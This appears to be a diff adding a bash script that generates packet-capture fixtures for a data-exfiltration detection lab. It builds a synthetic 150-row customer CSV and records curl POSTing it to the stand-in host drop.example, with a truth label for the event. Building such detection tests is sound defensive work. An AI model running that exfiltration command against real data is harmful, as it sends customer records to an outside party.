@@ -1,0 +1,16 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-3.0-or-later
+# make.sh - record curl's POST of a bare CSV.
+here=$(cd "$(dirname "$0")" && pwd)
+# shellcheck source=/dev/null
+. "$here/../make/lab.sh"
+
+table csv accounts 150 >"$LAB/customers.csv"
+lab_up
+lab_nginx out_
+lab_record "$here/capture.pcap"
+in_ curl -sS --resolve drop.example:80:203.0.113.9 -H "Content-Type: text/csv" \
+    --data-binary "@$LAB/customers.csv" http://drop.example/upload
+lab_stop
+table truth accounts 150 channel=http party=drop.example \
+    >"$here/truth.json"
